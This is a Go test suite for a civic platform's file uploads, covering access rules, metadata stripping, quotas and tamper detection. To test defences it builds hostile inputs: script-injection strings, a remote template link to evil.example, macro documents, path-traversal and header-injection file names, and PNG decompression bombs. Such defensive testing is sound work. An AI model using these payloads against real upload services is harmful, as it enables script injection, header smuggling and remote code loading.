package files_test

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/birge-kz/birge/internal/citytest"
	"github.com/birge-kz/birge/internal/civic"
	"github.com/birge-kz/birge/internal/consultations"
	"github.com/birge-kz/birge/internal/files"
	"github.com/birge-kz/birge/internal/organisations"
	"github.com/birge-kz/birge/internal/platform/storage"
	"github.com/birge-kz/birge/internal/record/proof"
)

// photo is what a phone makes that is held upright: lying pixels, red on the left and blue on the
// right, with the note that they are to be turned by 90°, and where it was taken.
func photo(t testing.TB, w, h int) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			c := color.RGBA{220, 30, 30, 255}
			if x >= w/2 {
				c = color.RGBA{30, 30, 220, 255}
			}
			img.SetRGBA(x, y, c)
		}
	}
	var b bytes.Buffer
	if err := jpeg.Encode(&b, img, nil); err != nil {
		t.Fatal(err)
	}
	exif := []byte("Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08" + "\x00\x02" +
		"\x01\x12\x00\x03\x00\x00\x00\x01\x00\x06\x00\x00" + // to be turned by 90°
		"\x88\x25\x00\x04\x00\x00\x00\x01\x00\x00\x00\x26" + // GPS
		"\x00\x00\x00\x00" + "\x00\x01" + "\x00\x01\x00\x02\x00\x00\x00\x02N\x00\x00\x00" + "\x00\x00\x00\x00" + "GPS 42.34167N 69.59012E")
	out := append([]byte("\xff\xd8\xff\xe1"), byte((len(exif)+2)>>8), byte(len(exif)+2))
	return append(append(out, exif...), b.Bytes()[2:]...)
}

func drawing(t testing.TB, w, h int) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := png.Encode(&b, image.NewRGBA(image.Rect(0, 0, w, h))); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

var pdf = []byte("%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")

// container is a zip of the entries: name, text, name, text … "mimetype" stands as it is.
func container(t testing.TB, entries ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i+1 < len(entries); i += 2 {
		method := zip.Deflate
		if entries[i] == "mimetype" {
			method = zip.Store
		}
		w, err := z.CreateHeader(&zip.FileHeader{Name: entries[i], Method: method})
		if err == nil {
			_, err = w.Write([]byte(entries[i+1]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

const (
	wordType  = `<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	macroType = `<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`
	sheetType = `<Types><Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`
)

func docx(t testing.TB) []byte {
	return container(t, "[Content_Types].xml", wordType, "word/document.xml", "<w/>")
}

// veiled is a document whose list of entries is right, and leaves out what stands before the first.
func veiled(t testing.TB) []byte {
	t.Helper()
	var b bytes.Buffer
	b.WriteString("PK\x03\x04<script>alert(1)</script>" + strings.Repeat(" ", 40))
	z := zip.NewWriter(&b)
	z.SetOffset(int64(b.Len()))
	for name, text := range map[string]string{"[Content_Types].xml": wordType, "word/document.xml": "<w/>"} {
		w := must(z.Create(name))
		must(w.Write([]byte(text)))
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

var link = regexp.MustCompile(`/files/[a-z0-9]{26}/[a-z0-9.]+`)

// linked is the address of the first file on a page.
func linked(t testing.TB, p *citytest.Page) string {
	t.Helper()
	path := link.FindString(p.Main().Body)
	if path == "" {
		t.Fatalf("no file in %s", p.Text())
	}
	return path
}

func logoOf(id civic.ID) string {
	return files.DeskPath(organisations.RefOf(id), organisations.LogoFiles)
}
func documentsOf(id civic.ID) string {
	return files.DeskPath(organisations.RefOf(id), organisations.DocumentFiles)
}

// A representative adds the logo of their organisation, from the phone: it is on the page and in the list, upright,
// without the place where it was taken, and in the record.
func TestALogo(t *testing.T) {
	citytest.Each(t, func(t *testing.T, c *citytest.City) {
		ngo := c.Organisation("Жасыл қала")
		speaker := c.Browser(c.Representative(ngo))
		visitor := c.Browser(nil)
		visitor.Get("/kk" + organisations.PathOf(ngo)).Want(200).Lacks("/files/")
		visitor.Get("/kk/organisations").Want(200).Lacks("/files/")
		c.SkipActs()
		before := salts(c)

		speaker.Get("/kk"+organisations.PathOf(ngo)).Want(200, logoOf(ngo), documentsOf(ngo))
		speaker.Upload("/kk"+logoOf(ngo), "file", "лого.jpg", photo(t, 400, 200)).Want(422, "Суретте не бар екенін жазыңыз")
		speaker.Upload("/kk"+logoOf(ngo), "file", "лого.jpg", photo(t, 400, 200), "words.kk", "Жасыл жапырақ").Want(303)
		speaker.Get("/kk"+logoOf(ngo)).Want(200, "Жасыл жапырақ", "лого.jpg", "Мұнда 1 файлдан артық қосуға болмайды")

		visitor.Get("/kk/organisations").Want(200, "/files/", `loading="lazy"`)
		path := linked(t, visitor.Get("/kk"+organisations.PathOf(ngo)).Want(200, `alt="Жасыл жапырақ"`, `width="64"`, `height="128"`))
		got := visitor.Get(path).Want(200)
		if strings.Contains(got.Body, "GPS") || strings.Contains(got.Body, "Exif") {
			t.Error("the picture says where it was taken")
		}
		img, err := jpeg.Decode(strings.NewReader(got.Body))
		c.Must(err)
		if b := img.Bounds(); b.Dx() != 64 || b.Dy() != 128 {
			t.Errorf("it is %v", b)
		}
		if r, _, b, _ := img.At(32, 10).RGBA(); r < b {
			t.Error("what was on the left is not on top")
		}
		for name, want := range map[string]string{"Cache-Control": "public, max-age=31536000, immutable", "Content-Type": "image/jpeg", "X-Content-Type-Options": "nosniff",
			"Content-Security-Policy": "default-src 'none'; sandbox"} {
			if got.Header.Get(name) != want {
				t.Errorf("%s: %q", name, got.Header.Get(name))
			}
		}
		acts := c.WantActs("files.file.published")
		if text := string(acts[0].Payload); strings.Contains(text, "лого") || strings.Contains(text, "жапырақ") || !strings.Contains(text, string(ngo)) {
			t.Errorf("the record says %s", text)
		}
		file := strings.Split(path, "/")[2]
		visitor.Get("/kk/files/"+file).Want(200, "Жасыл қала", "лого.jpg")
		visitor.Get("/kk/record/act/" + string(acts[0].ID)).Want(303)
		c.Verified()

		speaker.Post("/kk"+logoOf(ngo)+"/"+file, "words.kk", "Емен жапырағы").Want(303)
		visitor.Get("/kk"+organisations.PathOf(ngo)).Want(200, `alt="Емен жапырағы"`)
		history := organisations.PathOf(ngo) + "/history"
		visitor.Get("/kk"+history).Want(200, "Файл қосылды: Логотип", "Емен жапырағы", "/kk/files/"+file).Lacks("Файл алынды")
		speaker.Post("/kk" + logoOf(ngo) + "/" + file + "/remove").Want(303)
		c.WantActs("files.file.published", "files.file.withdrawn")
		visitor.Get(path).Want(404)
		visitor.Get("/kk"+history).Want(200, "Файл қосылды: Логотип", "Файл алынды: Логотип", "атауы сақталмаған").Lacks("Емен жапырағы")
		visitor.Get("/kk" + organisations.PathOf(ngo)).Want(200).Lacks("/files/")
		visitor.Get("/kk/organisations").Want(200).Lacks("/files/")
		c.Verified()
		if salts(c) != before {
			t.Error("of what was removed, somebody can still tell what the words were")
		}
	}, consultations.Capability())
}

// salts is how many commitments of the record can still be held against a text.
func salts(c *citytest.City) (n int64) {
	c.Read(func(tx *storage.Tx) (err error) {
		n, err = storage.One(tx, storage.Scalar[int64], "SELECT COUNT(*) FROM record_salt")
		return err
	})
	return n
}

// Who gets what: the rule of the consultation is asked at every download, by everybody anew.
func TestFilesOfADraftAreForItsHosts(t *testing.T) {
	citytest.Each(t, func(t *testing.T, c *citytest.City) {
		s := citytest.Service[*consultations.Service](c)
		body, other := c.Body("Әкімдік"), c.Body("Басқарма")
		host := c.Officer(body)
		set := s.Defaults()
		set.Question, set.Context = civic.Text{"kk": "Саябақ", "ru": "Парк"}, civic.Text{"kk": "Ескі", "ru": "Старый"}
		set.Host, set.Body, set.OpensAt, set.ClosesAt = body, body, c.Now().AddDate(0, 0, 1), c.Now().AddDate(0, 0, 30)
		id, err := s.Create(c.Ctx(), host.Actor, set)
		c.Must(err)
		thing := civic.Ref{Kind: consultations.Kind, ID: id}
		desk := files.DeskPath(thing, consultations.PictureFiles)
		people := map[string]*citytest.Browser{"visitor": c.Browser(nil), "resident": c.Browser(c.Resident("")), "moderator": c.Browser(c.Moderator()),
			"another officer": c.Browser(c.Officer(other)), "host": c.Browser(host), "administrator": c.Browser(c.Administrator())}
		for name, want := range map[string]int{"visitor": 401, "resident": 404, "moderator": 404, "another officer": 404, "host": 422, "administrator": 422} {
			people[name].Upload("/ru"+desk, "file", "a.jpg", photo(t, 40, 20), "words.kk", "Саябақ").Want(want)
		}
		people["host"].Upload("/ru"+desk, "file", "a.jpg", photo(t, 900, 600), "words.kk", "Саябақ", "words.ru", "Парк сейчас").Want(303)
		path := linked(t, people["host"].Get("/ru"+desk).Want(200, "Парк сейчас", "пока виден не всем"))
		file := strings.Split(path, "/")[2]
		wantEach := func(address string, statuses map[string]int, header string) {
			t.Helper()
			for name, b := range people {
				want, said := statuses[name]
				if !said {
					want = statuses["others"]
				}
				if got := b.Get(address).Want(want); want == 200 && header != "" && got.Header.Get("Cache-Control") != header {
					t.Errorf("%s as %s: %s", address, name, got.Header.Get("Cache-Control"))
				}
			}
		}
		wantEach(path, map[string]int{"others": 404, "host": 200, "administrator": 200}, "private, no-store")
		wantEach("/ru/files/"+file, map[string]int{"others": 404, "host": 200, "administrator": 200}, "")
		wantEach(strings.Replace(path, ".", "0.", 1), map[string]int{"others": 404}, "")
		c.SkipActs()

		c.Must(s.Publish(c.Ctx(), host.Actor, id))
		c.WantActs("consultations.consultation.published", "files.file.published")
		people["visitor"].Get("/ru"+consultations.Path(id)).Want(200, "Парк сейчас", `loading="lazy"`).Lacks("пока виден не всем")
		wantEach(path, map[string]int{"others": 200}, "public, max-age=31536000, immutable")

		c.Tamper("UPDATE consultations_consultation SET phase = 'draft' WHERE id = $1", id) // as if somebody had forgotten Settle
		wantEach(path, map[string]int{"others": 404, "host": 200, "administrator": 200}, "private, no-store")
		c.Tamper("UPDATE consultations_consultation SET phase = 'planned' WHERE id = $1", id)
		c.Tamper("UPDATE files_file SET published = FALSE") // the other way round: what the record does not name, the public does not see
		people["visitor"].Get(path).Want(404)
		c.Tamper("UPDATE files_file SET published = TRUE")

		c.Must(s.Withdraw(c.Ctx(), host.Actor, id))
		c.WantActs("consultations.consultation.withdrawn", "files.file.withdrawn")
		wantEach(path, map[string]int{"others": 404, "host": 200, "administrator": 200}, "private, no-store")
		c.Verified()

		c.Must(s.Publish(c.Ctx(), host.Actor, id))
		c.Pass(48 * time.Hour) // people vote, so what they were shown stays
		people["host"].Upload("/ru"+desk, "file", "b.jpg", photo(t, 40, 20), "words.kk", "Б", "words.ru", "Б").Want(403)
		people["host"].Post("/ru" + desk + "/" + file + "/remove").Want(403)
		people["visitor"].Get(path).Want(200)
	}, consultations.Capability())
}

// What a document is, its content says; what could run is refused, and what is taken no browser opens as a page of the
// city's. Names are text, wherever they stand.
func TestDocuments(t *testing.T) {
	citytest.Each(t, func(t *testing.T, c *citytest.City) {
		ngo := c.Organisation("Жасыл қала")
		speaker, visitor := c.Browser(c.Representative(ngo)), c.Browser(nil)
		zipEnd := container(t, "a", "b")
		for name, tc := range map[string]struct {
			data []byte
			want string // "" when it is taken
		}{
			"statute.pdf":      {pdf, ""},
			"plan.docx":        {docx(t), ""},
			"plan.exe":         {docx(t), ""}, // a name says nothing
			"table.xlsx":       {container(t, "[Content_Types].xml", sheetType, "xl/workbook.xml", "<x/>"), ""},
			"text.odt":         {container(t, "mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "<o/>"), ""},
			"macros.docm":      {container(t, "[Content_Types].xml", macroType, "word/document.xml", "<w/>", "word/vbaProject.bin", "x"), "macros"},
			"hidden.docx":      {container(t, "[Content_Types].xml", wordType, "word/document.xml", "<w/>", "word/vbaProject.bin", "x"), "macros"},
			"fetching.docx":    {container(t, "[Content_Types].xml", wordType, "word/document.xml", "<w/>", "word/_rels/settings.xml.rels", `<R Type="x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>`), "macros"},
			"basic.odt":        {container(t, "mimetype", "application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml", "x"), "macros"},
			"page.html":        {[]byte("<!doctype html><script>alert(1)</script>"), "not a PDF"},
			"drawing.svg":      {[]byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), "not a PDF"},
			"any.zip":          {zipEnd, "not a PDF"},
			"late.odt":         {container(t, "content.xml", "<o/>", "mimetype", "application/vnd.oasis.opendocument.text"), "not a PDF"},
			"page.pdf":         {append([]byte("%PDF-1.4\n<html><script>alert(1)</script>"), pdf...), "foreign"},
			"archive.pdf":      {append(append([]byte{}, pdf...), append(zipEnd, "%%EOF"...)...), "foreign"},
			"cut.pdf":          {pdf[:20], "not a PDF"},
			"before.docx":      {append([]byte("MZ\x90\x00"), docx(t)...), "not a PDF"},
			"two.docx":         {append(append([]byte{}, zipEnd...), docx(t)...), "foreign"},
			"behind.docx":      {append(docx(t), "<script>"...), "foreign"},
			"veiled.docx":      {veiled(t), "foreign"},
			"twice.docx":       {container(t, "[Content_Types].xml", wordType, "word/document.xml", "<w/>", "WORD/document.xml", "<w/>"), "foreign"},
			"climbing.docx":    {container(t, "[Content_Types].xml", wordType, "word/document.xml", "<w/>", "../../x", "x"), "foreign"},
			"empty.pdf":        {nil, "empty"},
			"photo.pdf":        {photo(t, 20, 20), "not a PDF"},
			"only a start.pdf": {[]byte("%PDF-"), "not a PDF"},
		} {
			p := speaker.Upload("/en"+documentsOf(ngo), "file", name, tc.data, "words.en", "Title of "+name)
			if taken := p.Status == http.StatusSeeOther; taken != (tc.want == "") || !taken && !strings.Contains(p.Main().Text(), tc.want) {
				t.Errorf("%s: status %d, want %q: %.600s", name, p.Status, tc.want, p.Text())
			}
		}
		page := visitor.Get("/en"+organisations.PathOf(ngo)).Want(200, "Title of plan.exe", "DOCX", "XLSX", "ODT", "PDF")
		for _, path := range link.FindAllString(page.Body, -1) {
			h := visitor.Get(path).Want(200).Header
			if !strings.HasPrefix(h.Get("Content-Disposition"), "attachment;") || h.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(h.Get("Content-Security-Policy"), "sandbox") ||
				strings.Contains(h.Get("Content-Type"), "html") || strings.Contains(h.Get("Content-Disposition"), "exe") {
				t.Errorf("%v", h)
			}
		}
	}, consultations.Capability())
}

// A name of any letters is shown as text, and sent so that it breaks no header and hides no ending.
func TestHostileNames(t *testing.T) {
	citytest.Each(t, func(t *testing.T, c *citytest.City) {
		ngo := c.Organisation("Жасыл қала")
		who := c.Representative(ngo)
		speaker, visitor := c.Browser(who), c.Browser(nil)
		for i, name := range []string{`<script>alert(1)</script>.pdf`, "жарғы\u202Efdp.exe", "../../etc/passwd", `C:\fakepath\Жарғы 2026.pdf`, "a\r\nSet-Cookie: x=1.pdf", `"; filename="x.html`, strings.Repeat("ұ", 400) + ".pdf", "\u200b\u200b.pdf", "%00.pdf"} {
			ids, err := c.Files.Add(c.Ctx(), who.Actor, files.Place{Thing: organisations.RefOf(ngo), Sort: organisations.DocumentFiles}, civic.Text{"kk": fmt.Sprint("Құжат ", i)},
				files.Upload{Name: name, Bytes: bytes.NewReader(pdf), Size: int64(len(pdf)), Field: "file"})
			c.Must(err)
			for _, p := range []*citytest.Page{speaker.Get("/kk" + documentsOf(ngo)), visitor.Get("/kk/files/" + string(ids[0]))} {
				p.Want(200).Lacks("<script>alert", "\u202e", "\r\nSet-Cookie")
			}
			h := visitor.Get(linked(t, visitor.Get("/kk/files/"+string(ids[0])))).Want(200).Header
			how := h.Get("Content-Disposition")
			if strings.ContainsAny(how, "\r\n\u202e/\\<>") || strings.Count(how, `"`) != 2 || !strings.Contains(how, "filename*=UTF-8''") || !strings.HasSuffix(how, ".pdf") || h.Get("Set-Cookie") != "" {
				t.Errorf("%q becomes %q", name, how)
			}
		}
		page := speaker.Get("/kk"+documentsOf(ngo)).Want(200, "Жарғы 2026.pdf", "passwd.pdf")
		page.Lacks("fakepath")
		if text := string(must(json.Marshal(c.Acts("files.file.published")))); strings.Contains(text, "Жарғы") {
			t.Error("a name stands in the record")
		}
		c.Verified()
	}, consultations.Capability())
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

// A state body's words are in both languages, and so are its documents.
func TestOfficialFiles(t *testing.T) {
	citytest.Each(t, func(t *testing.T, c *citytest.City) {
		body := c.Body("Әкімдік")
		officer := c.Officer(body)
		b := c.Browser(officer)
		b.Upload("/ru"+logoOf(body), "file", "a.png", drawing(t, 30, 30), "words.kk", "Елтаңба").Want(422)
		b.Upload("/ru"+logoOf(body), "file", "a.png", drawing(t, 30, 30), "words.kk", "Елтаңба", "words.ru", "Герб").Want(303)
		b.Upload("/ru"+documentsOf(body), "file", "a.pdf", pdf, "words.kk", "Ереже", "words.ru", "Положение", "lang", "kk").Want(422, "и на казахском, и на русском")
		b.Upload("/ru"+documentsOf(body), "file", "a.pdf", pdf, "words.kk", "Ереже", "words.ru", "Положение", "lang", "mul").Want(303)
		up := func(lang civic.Lang) files.Upload {
			return files.Upload{Name: "b.pdf", Bytes: bytes.NewReader(pdf), Size: int64(len(pdf)), Lang: lang}
		}
		where := files.Place{Thing: organisations.RefOf(body), Sort: organisations.DocumentFiles}
		words := civic.Text{"kk": "Жоспар", "ru": "План"}
		_, err := c.Files.Add(c.Ctx(), officer.Actor, where, words, up("ru"))
		c.Refused(err, civic.Invalid)
		ids, err := c.Files.Add(storage.Again(c.Ctx()), officer.Actor, where, words, up("kk"), up("ru"))
		if c.Must(err); len(ids) != 2 {
			t.Errorf("%d files", len(ids))
		}
		c.Browser(nil).Get("/ru"+organisations.PathOf(body)).Want(200, "План", `hreflang="kk"`, `hreflang="ru"`, "на нескольких языках")
	}, consultations.Capability())
}

// A small file that would become a huge picture is refused by its header, and so is what is too many bytes.
func TestBounds(t *testing.T) {
	citytest.Each(t, func(t *testing.T, c *citytest.City) {
		ngo := c.Organisation("Жасыл қала")
		b := c.Browser(c.Representative(ngo))
		header := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32([]byte("IHDR"), 30_000), 30_000)
		header = append(header, 8, 6, 0, 0, 0)
		bomb := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0d"), binary.BigEndian.AppendUint32(header, crc32.ChecksumIEEE(header))...)
		bomb = append(bomb, make([]byte, 1<<20)...)
		b.Upload("/en"+logoOf(ngo), "file", "bomb.png", bomb, "words.en", "A bomb").Want(413)
		deep := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32([]byte("IHDR"), 5_000), 5_000)
		deep = append(deep, 16, 6, 0, 0, 0) // few enough pixels, but of 8 bytes each
		deep = append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0d"), binary.BigEndian.AppendUint32(deep, crc32.ChecksumIEEE(deep))...)
		b.Upload("/en"+logoOf(ngo), "file", "deep.png", deep, "words.en", "A bomb").Want(413)
		c.Set("files.picture_megapixels", 1)
		b.Upload("/en"+logoOf(ngo), "file", "a.png", drawing(t, 1001, 1000), "words.en", "A drawing").Want(413)
		b.Upload("/en"+logoOf(ngo), "file", "a.gif", []byte("GIF89a"), "words.en", "A drawing").Want(422, "not a JPEG, PNG or WebP")
		b.Upload("/en"+logoOf(ngo), "file", "a.png", drawing(t, 100, 100)[:60], "words.en", "A drawing").Want(422, "broken")
		b.Post("/en"+logoOf(ngo), "words.en", "A drawing").Want(422, "Choose a file")
		c.Set("files.document_mib", 1)
		b.Upload("/en"+documentsOf(ngo), "file", "a.pdf", append(append([]byte{}, pdf...), make([]byte, 1<<20)...), "words.en", "Large").Want(413)
		b.Get("/en"+logoOf(ngo)).Want(200, "Nothing here yet")
	}, consultations.Capability())
}

// Many at once never take more than the quota, and never more files than there may be.
func TestQuotaHoldsWhenManyComeAtOnce(t *testing.T) {
	citytest.Each(t, func(t *testing.T, c *citytest.City) {
		ngo := c.Organisation("Жасыл қала")
		speaker := c.Representative(ngo)
		c.Set("files.account_mib", 1)
		data := append(append([]byte{}, bytes.Repeat(pdf[:9], 1)...), append(make([]byte, 300<<10), pdf...)...)
		var taken sync.WaitGroup
		var mu sync.Mutex
		var ok int
		for range 10 {
			taken.Go(func() {
				_, err := c.Files.Add(c.Ctx(), speaker.Actor, files.Place{Thing: organisations.RefOf(ngo), Sort: organisations.DocumentFiles}, civic.Text{"kk": "Құжат"},
					files.Upload{Name: "a.pdf", Bytes: bytes.NewReader(data), Size: int64(len(data))})
				mu.Lock()
				defer mu.Unlock()
				if err == nil {
					ok++
				} else if civic.CodeOf(err) != civic.TooLarge {
					t.Error(err)
				}
			})
		}
		taken.Wait()
		if ok != 3 {
			t.Errorf("%d files of 300 KiB were taken in 1 MiB", ok)
		}
		c.Set("files.account_mib", 100)
		c.Set("files.city_mib", 1)
		_, err := c.Files.Add(c.Ctx(), c.Administrator().Actor, files.Place{Thing: organisations.RefOf(ngo), Sort: organisations.DocumentFiles}, civic.Text{"kk": "Құжат"},
			files.Upload{Name: "a.pdf", Bytes: bytes.NewReader(data), Size: int64(len(data))})
		c.Refused(err, civic.TooLarge)
	}, consultations.Capability())
}

// What a crash leaves, and what was removed, is swept after its time and not before; what is used stays.
func TestSweep(t *testing.T) {
	citytest.Each(t, func(t *testing.T, c *citytest.City) {
		ngo := c.Organisation("Жасыл қала")
		who := c.Representative(ngo)
		speaker := c.Browser(who)
		for range 2 {
			speaker.Upload("/kk"+documentsOf(ngo), "file", "a.pdf", pdf, "words.kk", "Құжат").Want(303)
		}
		paths := link.FindAllString(c.Browser(nil).Get("/kk"+organisations.PathOf(ngo)).Body, -1)
		leave := func(begin string) { // in the shelf of the folder in which it would be
			id := string(civic.NewID(c.Now()))
			shelf := filepath.Join(c.FilesFolder, id[len(id)-2:])
			c.Must(os.MkdirAll(shelf, 0o700))
			c.Must(os.WriteFile(filepath.Join(shelf, begin+id+".0123456789abcdef"), pdf, 0o600))
		}
		leave("")
		leave("half-")
		leave("somebody-elses-") // which is not ours to judge
		c.Pass(40 * 24 * time.Hour)
		leave("") // on its way
		c.Browser(who).Post("/kk" + documentsOf(ngo) + "/" + strings.Split(paths[0], "/")[2] + "/remove").Want(303)
		count := func(want int) {
			t.Helper()
			found, err := filepath.Glob(filepath.Join(c.FilesFolder, "*", "*"))
			if c.Must(err); len(found) != want {
				t.Errorf("%d blobs, want %d: %v", len(found), want, found)
			}
		}
		count(6)
		c.Must(c.Files.Sweep(c.Ctx()))
		count(4)
		c.Pass(49 * time.Hour)
		c.Must(c.Files.Sweep(c.Ctx()))
		count(2) // the file, and what is not ours
		c.Browser(nil).Get(paths[1]).Want(200)
	}, consultations.Capability())
}

// The files that somebody sent are in their download, and stay with the thing when they go.
func TestPersonalData(t *testing.T) {
	citytest.Each(t, func(t *testing.T, c *citytest.City) {
		ngo := c.Organisation("Жасыл қала")
		speaker := c.Representative(ngo)
		b := c.Browser(speaker)
		b.Upload("/kk"+documentsOf(ngo), "file", "жарғы.pdf", pdf, "words.kk", "Жарғы").Want(303)
		path := linked(t, c.Browser(nil).Get("/kk"+organisations.PathOf(ngo)))
		b.Get("/kk/account/download").Want(200, path, "жарғы.pdf", "Жарғы")
		b.Post("/kk/account/delete", "sure", "yes", "password", citytest.Password).Want(303)
		c.Browser(nil).Get(path).Want(200)
		c.Read(func(tx *storage.Tx) error {
			held, err := files.Part().Personal.Export(tx, speaker.Account)
			if left := string(must(json.Marshal(held))); left != "null" {
				t.Errorf("left behind: %s", left)
			}
			return err
		})
	}, consultations.Capability())
}

// Whoever changes a file's row in the database is found out.
func TestTampering(t *testing.T) {
	citytest.Each(t, func(t *testing.T, c *citytest.City) {
		ngo := c.Organisation("Жасыл қала")
		c.Browser(c.Representative(ngo)).Upload("/kk"+documentsOf(ngo), "file", "a.pdf", pdf, "words.kk", "Жарғы").Want(303)
		c.SkipActs()
		c.Verified()
		c.Tamper("UPDATE files_file SET words = $1", `{"kk":"Басқа"}`)
		dir := filepath.Join(t.TempDir(), "copy")
		_, err := c.Record.Export(c.Ctx(), dir, nil)
		c.Must(err)
		if _, err := proof.Verify(c.Ctx(), proof.Dir(dir), proof.Options{Now: c.DB.Now}); err == nil {
			t.Error("other words, and nobody says so")
		}
	}, consultations.Capability())
}

// A part of a file is sent to whoever asks for one, and nothing to whoever has it.
func TestPartsAndCopies(t *testing.T) {
	citytest.Each(t, func(t *testing.T, c *citytest.City) {
		ngo := c.Organisation("Жасыл қала")
		c.Browser(c.Representative(ngo)).Upload("/kk"+documentsOf(ngo), "file", "a.pdf", pdf, "words.kk", "Жарғы").Want(303)
		path := linked(t, c.Browser(nil).Get("/kk"+organisations.PathOf(ngo)))
		etag := c.Browser(nil).Get(path).Want(200).Header.Get("ETag")
		for name, tc := range map[string]struct {
			value string
			want  int
		}{"Range": {"bytes=0-3", 206}, "If-None-Match": {etag, 304}} {
			r := must(http.NewRequestWithContext(c.Ctx(), "GET", citytest.Origin+path, nil))
			r.Header.Set(name, tc.value)
			if p := c.Browser(nil).Do(r).Want(tc.want); tc.want == 206 && p.Body != "%PDF" {
				t.Errorf("%q", p.Body)
			}
		}
	}, consultations.Capability())
}
